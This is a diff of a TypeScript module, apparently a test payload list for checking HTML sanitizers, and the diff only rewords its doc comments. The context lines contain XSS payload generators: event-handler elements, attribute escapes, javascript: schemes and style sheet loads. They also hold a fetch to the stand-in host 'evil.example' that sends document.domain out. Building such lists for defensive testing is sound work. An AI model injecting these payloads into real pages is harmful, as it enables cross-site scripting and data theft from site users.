@@ -1,9 +1,9 @@
-/** Where every request of a payload that works would go. */
+/** Target of every request of a successful payload. */
 export const HOSTILE_HOST = 'evil.example'
 
 const call = `fetch('https://${HOSTILE_HOST}/'+document.domain),alert(1)`
 
-/** Ways to get a script run, a request sent, or the page rebuilt, from a string that is shown as text or as a link. */
+/** Strings that try to run a script, send a request or change the page when shown as text or link. */
 export const payloads: readonly string[] = [
   ...inElements(),
   ...inAttributes(),
@@ -72,7 +72,7 @@ export const payloads: readonly string[] = [
   '__proto__',
 ]
 
-/** Elements that run a handler, with and without being closed, cased and spaced as filters have missed them. */
+/** Elements with handlers, in variants that filters have missed. */
 function inElements(): string[] {
   const elements = [
     ['audio src=x', 'onerror'],
@@ -105,7 +105,7 @@ function inElements(): string[] {
   ])
 }
 
-/** Out of a quoted, an unquoted and a commented place. */
+/** Escapes from quoted, unquoted and commented places. */
 function inAttributes(): string[] {
   const ends = [
     '"',
@@ -128,7 +128,7 @@ function inAttributes(): string[] {
   ])
 }
 
-/** Schemes that run or leave, and spellings that a parser forgives. */
+/** Schemes that run scripts or leave the origin, and spellings that parsers accept. */
 function inAddresses(): string[] {
   const schemes = [
     'javascript',
@@ -150,7 +150,7 @@ function inAddresses(): string[] {
   ])
 }
 
-/** Rules and functions of style sheets that ask another host. */
+/** Rules and functions of style sheets that load from another host. */
 function inStyles(): string[] {
   const address = `https://${HOSTILE_HOST}/style`
   return [
